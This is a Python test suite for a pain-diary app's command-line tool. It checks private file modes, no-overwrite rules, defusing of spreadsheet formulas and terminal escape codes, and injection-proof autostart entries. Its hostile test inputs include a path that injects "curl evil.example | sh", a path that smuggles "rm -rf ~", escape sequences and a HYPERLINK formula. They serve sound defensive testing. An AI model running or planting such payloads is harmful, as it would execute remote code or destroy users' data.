"""Private by default, and no overwrites (issue 10 §4), checked the way they are met: the CLI as
a separate process on a real data folder, and the files it leaves read back from disk.

- every file in the data folder is 0600 and every folder 0700 after a real session of verbs
  (WAL and SHM included), and files an older version left readable are made private;
- `report --out` and `reminders export-ics --out` refuse the data folder (the diary, its WAL and
  SHM, backups) even with --force, and an existing file without it;
- both CSVs defuse spreadsheet formulas the same way; no control character reaches a terminal;
- what an export killed half-way left is removed at the next start, and nothing else is;
- no path can add a line to the autostart entry.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from datetime import UTC
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.typed import shown
from app.services import autostart
from app.services.safe_text import (
    SafeCsvWriter,
    from_spreadsheet_cell,
    terminal_json,
    terminal_text,
)
from app.store import files
from app.store.database import open_database
from app.store.diary_repository import DiaryRepository
from tests.e2e.helpers import REPO_ROOT, cli_env, run_cli
from tests.e2e.test_cli import assert_one_line_error
from tests.services.test_autostart import exec_args

pytestmark = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")

ENV = cli_env(TZ="Europe/London")
# Every character a terminal would obey that a note can hold: escape sequences (colour, window
# title, cursor up), a bell, the C1 CSI, and a right-to-left override.
HOSTILE_NOTE = "red \x1b[31mRED\x1b[0m \x1b]0;pwned\x07 up\x1b[1A bell\x07 csi\x9b2J rlo\u202eevil"
TERMINAL_OBEYS = [chr(c) for c in [*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]]
TERMINAL_OBEYS += [
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
]
FORMULAS = [
    '=HYPERLINK("http://x.example","Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "'quoted already",
]


def ok(*args) -> str:
    result = run_cli(*map(str, args), env=ENV)
    assert result.returncode == 0, result.stderr
    return result.stdout


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def modes_under(folder: Path) -> dict[str, int]:
    found = {".": mode(folder)}
    for path in sorted(folder.rglob("*")):
        found[str(path.relative_to(folder))] = mode(path)
    return found


@pytest.fixture
def loose_umask():
    """The usual umask (0022: files 0644, folders 0755), whatever the test runner has."""
    before = os.umask(0o022)
    yield
    os.umask(before)


def seed_plan(data: Path) -> None:
    ok(
        "plan",
        "add-procedure",
        "--data-dir",
        data,
        "--kind",
        "test-block",
        "--region",
        "lumbar",
        "--side",
        "left",
        "--at",
        "2027-03-26T10:00",
        "--anaesthetic",
        "lidocaine",
        "--zone",
        "Europe/London",
    )


# --- modes ------------------------------------------------------------------------------------


def test_every_file_in_the_data_folder_is_private_after_a_real_session(tmp_path, loose_umask):
    data, out = tmp_path / "data", tmp_path / "out"
    out.mkdir()
    ok("diary", "add", "--data-dir", data, "--score", "6", "--note", "after the walk")
    # Held open, so the WAL and shared-memory files stay for the check.
    reader = sqlite3.connect(data / "facet.db")
    reader.execute("SELECT count(*) FROM entries").fetchone()
    try:
        seed_plan(data)
        ok("diary", "add", "--data-dir", data, "--score", "4")
        written = [
            ok("report", "--data-dir", data, "--format", fmt, "--out", out).strip()
            for fmt in ("pdf", "csv", "fhir")
        ]
        ok(
            "reminders",
            "export-ics",
            "--data-dir",
            data,
            "--audience",
            "patient",
            "--out",
            out / "patient.ics",
        )
        ok("diary", "list", "--data-dir", data)
        found = modes_under(data)
    finally:
        reader.close()
    assert {"facet.db", "facet.db-wal", "facet.db-shm"} <= set(found)
    folders = {name for name in found if (data / name).is_dir()}
    folder_modes = dict.fromkeys(folders, "0o700")
    assert {name: oct(m) for name, m in found.items() if name in folders} == folder_modes
    assert {name: oct(m) for name, m in found.items() if name not in folders} == {
        name: "0o600" for name in found if name not in folders
    }
    assert sorted(Path(p).suffix for p in written) == [".csv", ".json", ".pdf"]
    assert all(Path(p).parent == out for p in written)
    assert {p.name: oct(mode(p)) for p in out.iterdir()} == {
        p.name: "0o600" for p in out.iterdir()
    }, "reports and calendar files are private too"
    assert not [p for p in out.iterdir() if p.name.startswith(files.TEMP_PREFIX)]


@pytest.mark.skipif(
    not os.environ.get("DISPLAY"), reason="needs a display (bash dev.sh test starts Xvfb)"
)
def test_the_apps_own_folder_is_private_though_kivy_makes_it_0755(tmp_path, loose_umask):
    """Started without --data-dir, the window uses Kivy's user data folder, which Kivy creates
    with the umask's 0755 before the app opens the diary there."""
    env = cli_env(
        XDG_CONFIG_HOME=str(tmp_path / "config"),
        KIVY_HOME=str(tmp_path / "kivy"),
        KIVY_NO_CONSOLELOG="1",
    )
    data = tmp_path / "config" / "facetcompanion"
    data.parent.mkdir()  # Kivy makes only the last folder
    app = subprocess.Popen(
        [sys.executable, str(REPO_ROOT / "main.py")],
        cwd=REPO_ROOT,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 60
        while not (data / "facet.db-wal").exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        time.sleep(2)  # the first frame is drawn and the reminders have started
        assert app.poll() is None, "the app did not start"
        found = modes_under(data)
    finally:
        app.send_signal(signal.SIGTERM)
        app.wait(timeout=20)
    assert {"facet.db", "facet.db-wal", "facet.db-shm"} <= set(found)
    assert {name: oct(m) for name, m in found.items()} == {
        name: "0o700" if (data / name).is_dir() else "0o600" for name in found
    }


def test_files_an_older_version_left_readable_are_made_private_at_open(tmp_path, loose_umask):
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    db = sqlite3.connect(data / "facet.db")  # as before: 0644, its WAL 0644 too
    db.execute("PRAGMA journal_mode = WAL")
    db.execute("CREATE TABLE t (x)")
    db.commit()
    assert mode(data / "facet.db") == 0o644 and mode(data / "facet.db-wal") == 0o644
    ok("diary", "add", "--data-dir", data, "--score", "3")
    try:
        assert mode(data) == 0o700
        assert {
            name: oct(mode(data / name)) for name in ("facet.db", "facet.db-wal", "facet.db-shm")
        } == {"facet.db": "0o600", "facet.db-wal": "0o600", "facet.db-shm": "0o600"}
    finally:
        db.close()


def test_a_read_only_diary_stays_read_only(tmp_path, loose_umask):
    data = tmp_path / "data"
    open_database(data).close()
    (data / "facet.db").chmod(0o444)
    files.make_private_database(data / "facet.db")
    assert mode(data / "facet.db") == 0o400, "group and others lose access; nothing is added"


# --- never over the diary, never over a file without --force --------------------------------


@pytest.fixture
def diary(tmp_path) -> Path:
    """A data folder with a diary, a plan, a backup and an entry to lose."""
    data = tmp_path / "data"
    ok("diary", "add", "--data-dir", data, "--score", "7", "--note", "the one to keep")
    seed_plan(data)
    (data / "backups").mkdir(mode=0o700, exist_ok=True)  # the daily backup may be there
    (data / "backups" / "facet-2026-12-01T000000Z.db").write_bytes((data / "facet.db").read_bytes())
    return data


def test_the_diary_its_wal_shm_and_backups_are_never_replaced(diary, tmp_path):
    """Before: each of these was replaced by the report, facet.db included, and the diary was
    gone. Now each is refused with one line, --force or not, and nothing changes."""
    reader = sqlite3.connect(diary / "facet.db")  # keeps the WAL and SHM in place
    reader.execute("SELECT count(*) FROM entries").fetchone()
    try:
        targets = [
            diary / "facet.db",
            diary / "facet.db-wal",
            diary / "facet.db-shm",
            diary / "backups" / "facet-2026-12-01T000000Z.db",
            diary,
            diary / "backups",
            diary / "new-report.pdf",
        ]
        link = tmp_path / "innocent.ics"
        link.symlink_to(diary / "facet.db")
        backup = targets[3].read_bytes()
        listing = sorted(p.name for p in diary.rglob("*"))
        attempts = 0
        for target in [*targets, link]:
            for force in ([], ["--force"]):
                for verb in (
                    ["report", "--format", "csv"],
                    ["reminders", "export-ics", "--audience", "patient"],
                ):
                    result = run_cli(*verb, "--data-dir", diary, "--out", target, *force, env=ENV)
                    error = assert_one_line_error(result)
                    if target.is_dir() and verb[0] == "reminders":  # --out is a file there
                        assert "is a directory" in error, error
                    else:
                        assert "the folder where the app keeps your diary" in error, error
                    attempts += 1
        assert attempts == 32
        assert targets[3].read_bytes() == backup
        for path in targets[:3]:  # SQLite's own files still, with no report in them
            if path.exists():
                assert not path.read_bytes().startswith((b"\xef\xbb\xbfrecord", b"BEGIN:"))
        assert not (diary / "new-report.pdf").exists()
        assert sorted(p.name for p in diary.rglob("*")) == listing
    finally:
        reader.close()
    assert "the one to keep" in ok("diary", "list", "--data-dir", diary)


@pytest.mark.parametrize(
    "verb",
    [["report", "--format", "pdf"], ["reminders", "export-ics", "--audience", "patient"]],
    ids=["report", "export-ics"],
)
def test_an_existing_file_is_kept_unless_force_is_given(diary, tmp_path, verb):
    out = tmp_path / "for the clinic.pdf"
    out.write_text("last week's, already printed")
    error = assert_one_line_error(run_cli(*verb, "--data-dir", diary, "--out", out, env=ENV))
    assert error == (
        f"Error: Not written: {shown(str(out))} already exists. Add --force to "
        "replace it, or choose another name."
    )  # a long path cut as typed ones are
    assert out.read_text() == "last week's, already printed"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "for the clinic.pdf"], (
        "no temporary file left behind"
    )

    ok(*verb, "--data-dir", diary, "--out", out, "--force")
    assert out.read_bytes().startswith(b"%PDF" if verb[0] == "report" else b"BEGIN:VCALENDAR")
    assert mode(out) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "for the clinic.pdf"]


def test_the_apps_saves_keep_the_earlier_file_and_take_the_next_name(diary, tmp_path):
    from datetime import datetime

    from app.services.report_writer import ReportFolderError, ReportWriter

    folder = tmp_path / "Documents"
    folder.mkdir()
    backups = sorted(p.name for p in (diary / "backups").iterdir())
    writer = ReportWriter(diary)
    now = datetime(2026, 12, 1, 15, 0, tzinfo=UTC)
    names = [writer.write("pdf", folder, now=now, zone="UTC").name for _ in range(3)]
    assert names == [
        "facet-report-2026-12-01.pdf",
        "facet-report-2026-12-01 (2).pdf",
        "facet-report-2026-12-01 (3).pdf",
    ]
    assert writer.folder_problem(diary) == files.DIARY_FOLDER
    with pytest.raises(ReportFolderError, match="folder where the app keeps your diary"):
        writer.write("csv", diary / "backups", now=now, zone="UTC")
    assert sorted(p.name for p in (diary / "backups").iterdir()) == backups


def test_a_file_that_appears_while_a_report_is_made_is_not_replaced(tmp_path):
    target = tmp_path / "report.csv"
    with pytest.raises(FileExistsError), files.atomic_file(target, if_exists="refuse") as file:
        file.temp.write_text("new")
        target.write_text("made meanwhile by someone else")
    assert target.read_text() == "made meanwhile by someone else"
    assert [p.name for p in tmp_path.iterdir()] == ["report.csv"]


def test_the_next_free_name_skips_files_and_links_already_there(tmp_path):
    for name in ("r.pdf", "r (2).pdf"):
        (tmp_path / name).write_text(name)
    (tmp_path / "r (3).pdf").symlink_to(tmp_path / "nowhere")
    written = files.write_atomically(tmp_path / "r.pdf", b"new", if_exists="new_name")
    assert written == tmp_path / "r (4).pdf" and written.read_bytes() == b"new"
    assert [(tmp_path / n).read_text() for n in ("r.pdf", "r (2).pdf")] == ["r.pdf", "r (2).pdf"]


def test_without_hard_links_a_file_is_still_never_replaced(tmp_path, monkeypatch):
    """A FAT memory stick has no hard links: the move falls back to a rename after a look."""

    def no_links(*_args):
        raise PermissionError(1, "Operation not permitted")

    monkeypatch.setattr(os, "link", no_links)
    (tmp_path / "cal.ics").write_text("earlier")
    assert (
        files.write_atomically(tmp_path / "cal.ics", b"new", if_exists="new_name")
        == tmp_path / "cal (2).ics"
    )
    with pytest.raises(FileExistsError):
        files.write_atomically(tmp_path / "cal.ics", b"newer", if_exists="refuse")
    assert (tmp_path / "cal.ics").read_text() == "earlier"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cal (2).ics", "cal.ics"]


def test_a_failed_write_leaves_neither_file_nor_note(tmp_path):
    data, out = tmp_path / "data", tmp_path / "out"
    data.mkdir()
    with pytest.raises(RuntimeError), files.atomic_file(out / "r.pdf", data_dir=data) as file:
        assert [p.name for p in (data / files.PENDING_FOLDER).iterdir()] == [
            f"{os.getpid()}-{file.temp.name[len(files.TEMP_PREFIX) :]}"
        ]
        file.temp.write_bytes(b"%PDF half")
        raise RuntimeError("the disk went away")
    assert list(out.iterdir()) == []
    assert list(data.iterdir()) == []


# --- CSV and terminal ------------------------------------------------------------------------


def test_both_csvs_defuse_formulas_the_same_way(tmp_path):
    data = tmp_path / "data"
    for note in FORMULAS:
        ok("diary", "add", "--data-dir", data, "--score", "5", "--note", note, "--activity", note)
    listed = list(
        csv.DictReader(io.StringIO(ok("diary", "list", "--data-dir", data, "--format", "csv")))
    )
    report = Path(
        ok("report", "--data-dir", data, "--format", "csv", "--out", tmp_path / "r.csv").strip()
    )
    with open(report, encoding="utf-8-sig", newline="") as file:
        reported = [row for row in csv.DictReader(file) if row["record"] == "diary"]
    expected = ["'" + note for note in FORMULAS]
    assert [row["note"] for row in listed] == expected
    assert [row["activity"] for row in listed] == expected
    assert [row["note"] for row in reported] == expected
    assert [row["activity"] for row in reported] == expected


def test_the_csv_writer_defuses_every_start_owasp_lists():
    out = io.StringIO()
    writer = SafeCsvWriter(out, ["cell"])
    writer.writeheader()
    cells = ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "'1", "1-1", "plain", ""]
    for cell in cells:
        writer.writerow({"cell": cell})
    read = [row["cell"] for row in csv.DictReader(io.StringIO(out.getvalue(), newline=""))]
    assert read == ["'=1", "'+1", "'-1", "'@1", "'\t=1", "'\r=1", "''1", "1-1", "plain", ""]
    writer = SafeCsvWriter(out, ["n"])
    writer.writerow({"n": -3})  # numbers are numbers, not formulas
    assert out.getvalue().endswith("-3\r\n")


def test_no_control_character_reaches_the_terminal(tmp_path):
    data = tmp_path / "data"
    ok("diary", "add", "--data-dir", data, "--score", "5", "--note", HOSTILE_NOTE)
    printed = {
        fmt: ok("diary", "list", "--data-dir", data, "--format", fmt)
        for fmt in ("table", "csv", "json")
    }
    for fmt, text in printed.items():
        raw = sorted(
            {f"U+{ord(ch):04X}" for ch in text if ch in TERMINAL_OBEYS and ch not in "\r\n"}
        )
        assert raw == [], f"{fmt} printed {raw}"
        assert "\\x1b]0;pwned" in text or "\\u001b]0;pwned" in text, fmt
    assert "\\x9b2J" in printed["csv"] and "\\u202eevil" in printed["csv"]
    assert "\\u009b2J" in printed["json"] and "\\u202eevil" in printed["json"]
    db = open_database(data)
    saved = [entry.note for entry in DiaryRepository(db).since()]
    assert saved == [HOSTILE_NOTE], "what was saved is unchanged"
    db.close()


def test_a_typed_file_name_is_echoed_safely(diary, tmp_path):
    out = tmp_path / "report\x1b]0;pwned\x07\nError: fake.pdf"
    out.write_text("kept")
    error = assert_one_line_error(
        run_cli("report", "--data-dir", diary, "--format", "pdf", "--out", out, env=ENV)
    )
    assert "report\\x1b]0;pwned\\x07 Error: fake.pdf already exists" in error
    written = ok(
        "reminders",
        "export-ics",
        "--data-dir",
        diary,
        "--audience",
        "patient",
        "--out",
        tmp_path / "cal\x1b[2J.ics",
    )
    assert written.startswith(f"wrote {tmp_path}/cal\\x1b[2J.ics: ")
    assert (tmp_path / "cal\x1b[2J.ics").is_file(), "the file has the name that was asked"


def test_reminder_texts_are_printed_safely(tmp_path):
    from datetime import datetime
    from datetime import time as clock_time

    from app.domain.reminders import OwnReminder
    from app.store.own_reminders import OwnReminderRepository

    data = tmp_path / "data"
    db = open_database(data)
    OwnReminderRepository(db).add(
        OwnReminder(
            "Stretch \x1b[2J\x1b]0;pwned\x07 now",
            clock_time(9, 0),
            starts_on=datetime.now(UTC).date(),
        ),
        now=datetime.now(UTC),
    )
    db.close()
    for fmt in ("table", "json"):
        text = ok("reminders", "list", "--data-dir", data, "--format", fmt)
        assert "Stretch" in text
        assert not [ch for ch in text if ch in TERMINAL_OBEYS and ch not in "\r\n"], fmt


def test_terminal_text_keeps_words_and_shows_controls():
    words = "Ça va, 痛み 3 🙂\nsecond line\tx"
    assert terminal_text(words) == words
    assert terminal_text("a\r\nb\rc") == "a\nb\\x0dc"
    assert terminal_text("a\nb\tc", one_line=True) == "a b c"
    assert terminal_text("\x1b[31m\x9b\u202e") == "\\x1b[31m\\x9b\\u202e"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_text_gets_a_control_character_through(text):
    assert not [ch for ch in terminal_text(text) if ch in TERMINAL_OBEYS and ch not in "\n"]
    assert not [ch for ch in terminal_text(text, one_line=True) if ch in TERMINAL_OBEYS]
    assert not [ch for ch in terminal_json({"note": text}) if ch in TERMINAL_OBEYS]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_cell_reaches_a_spreadsheet_as_a_formula_and_each_reads_back(cells):
    out = io.StringIO()
    writer = SafeCsvWriter(out, [f"c{i}" for i in range(len(cells))])
    writer.writerow({f"c{i}": cell for i, cell in enumerate(cells)})
    [row] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [from_spreadsheet_cell(cell) for cell in row] == cells


# --- left-overs of an interrupted report --------------------------------------------------------

KILLED_MID_REPORT = """
import os, signal, sys
from datetime import datetime, timezone
import app.services.reports.pdf_report as pdf
from app.services.reports import export_report
from app.store.database import open_database

def dies_half_way(data, path, progress=None, **_options):
    with open(path, "wb") as file:
        file.write(b"%PDF-1.4 half a report")
        file.flush()
    os.kill(os.getpid(), signal.SIGKILL)

pdf.write_pdf = dies_half_way
export_report(open_database(sys.argv[1]), "pdf", sys.argv[2],
              now=datetime.now(timezone.utc), zone="UTC")
"""


def test_a_report_killed_half_way_leaves_nothing_after_the_next_start(tmp_path):
    data, out = tmp_path / "data", tmp_path / "Documents"
    out.mkdir()
    killed = subprocess.run(
        [sys.executable, "-c", KILLED_MID_REPORT, str(data), str(out)],
        cwd=REPO_ROOT,
        env=ENV,
        capture_output=True,
        timeout=60,
    )
    assert killed.returncode == -signal.SIGKILL
    [left] = list(out.iterdir())
    assert left.name.startswith(files.TEMP_PREFIX)
    [marker] = list((data / files.PENDING_FOLDER).iterdir())
    # Around them, what is not ours, or too fresh to be a left-over, must stay.
    keep = [
        out / "holiday.pdf",
        out / ".facet-tmp-fresh",
        data / ".facet-tmp-fresh",
        out / "notes-.facet-tmp-old",
    ]
    for path in keep:
        path.write_text("keep me")
    old = time.time() - files.STALE_AFTER_SECONDS - 60
    for path in (left, marker, out / "holiday.pdf", out / "notes-.facet-tmp-old"):
        os.utime(path, (old, old))
    (data / ".facet-tmp-stale").write_text("a backup's left-over")
    os.utime(data / ".facet-tmp-stale", (old, old))

    ok("diary", "list", "--data-dir", data)  # the next start

    assert not left.exists()
    assert not (data / ".facet-tmp-stale").exists()
    assert not (data / files.PENDING_FOLDER).exists(), "the data folder holds only the diary"
    assert all(path.read_text() == "keep me" for path in keep)


def test_a_running_writers_temporary_file_is_left_alone(tmp_path):
    data, out = tmp_path / "data", tmp_path / "out"
    data.mkdir()
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        out.mkdir()
        temp = out / (files.TEMP_PREFIX + "busy")
        temp.write_text("being written")
        pending = data / files.PENDING_FOLDER
        pending.mkdir()
        marker = pending / f"{sleeper.pid}-busy"
        marker.write_bytes(os.fsencode(temp))
        old = time.time() - files.STALE_AFTER_SECONDS - 60
        for path in (temp, marker):
            os.utime(path, (old, old))
        assert files.remove_stale_temporaries(data) == []
        assert temp.exists() and marker.exists()
    finally:
        sleeper.kill()
        sleeper.wait()
    assert files.remove_stale_temporaries(data) == [temp]
    assert not marker.exists()


# --- the autostart entry ------------------------------------------------------------------------

HOSTILE_PATHS = [
    "/home/ana/My Diary",
    "/tmp/a\nExec=sh -c 'curl evil.example | sh'\n[Desktop Entry]\nHidden=true",
    "/tmp/b\r\nExec=evil",
    '/tmp/c"; rm -rf ~; echo "',
    "/tmp/d $HOME `id` 100% \\n \\\\ \t tab",
]


@pytest.mark.parametrize("data_dir", HOSTILE_PATHS)
def test_no_path_adds_a_line_to_the_autostart_entry(tmp_path, monkeypatch, data_dir):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    python = '/opt/py "3"\n[Other]\nExec=evil'
    path = autostart.enable(data_dir=data_dir, python=python)
    text = path.read_text(encoding="utf-8")
    keys = [line.split("=", 1)[0] for line in text.split("\n") if line]
    assert keys == [
        "[Desktop Entry]",
        "Type",
        "Name",
        "Comment",
        "Exec",
        "Terminal",
        "NoDisplay",
        "X-GNOME-Autostart-enabled",
    ]
    assert text.count("\n") == 8 and "\r" not in text
    assert exec_args(text) == [
        python,
        str(autostart.MAIN),
        "reminders",
        "run",
        "--data-dir",
        str(Path(data_dir).resolve()),
    ]
    assert mode(path) == 0o600


@settings(max_examples=300, deadline=None)
# No path holds NUL; a name's bytes that are not UTF-8 are tried in the test below.
@given(
    st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), min_size=1)
)
def test_any_path_is_carried_whole_or_refused_never_adds_a_line(name):
    folder = "/tmp/" + name.replace("/", "_")
    try:
        text = autostart.desktop_entry(data_dir=folder, python=folder + "/python")
    except OSError:
        assert autostart.UNWRITABLE.search(folder)
        return
    lines = text.split("\n")
    assert len(lines) == 9 and lines[-1] == "" and "\r" not in text
    assert [line.split("=", 1)[0] for line in lines[:-1]] == [
        "[Desktop Entry]",
        "Type",
        "Name",
        "Comment",
        "Exec",
        "Terminal",
        "NoDisplay",
        "X-GNOME-Autostart-enabled",
    ]
    assert exec_args(text) == [
        folder + "/python",
        str(autostart.MAIN),
        "reminders",
        "run",
        "--data-dir",
        str(Path(folder).resolve()),
    ]


def test_a_path_the_entry_cannot_carry_is_refused_and_nothing_written(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    not_utf8 = os.fsdecode(b"/tmp/caf\xe9")  # a Latin-1 folder name
    for awkward in ("/tmp/a\x0bb", "/tmp/a\u2028b", "/tmp/a\x1b[2Jb", not_utf8):
        with pytest.raises(OSError, match="cannot hold"):
            autostart.enable(data_dir=awkward)
    assert not (tmp_path / "config").exists(), "nothing written, not even a folder"
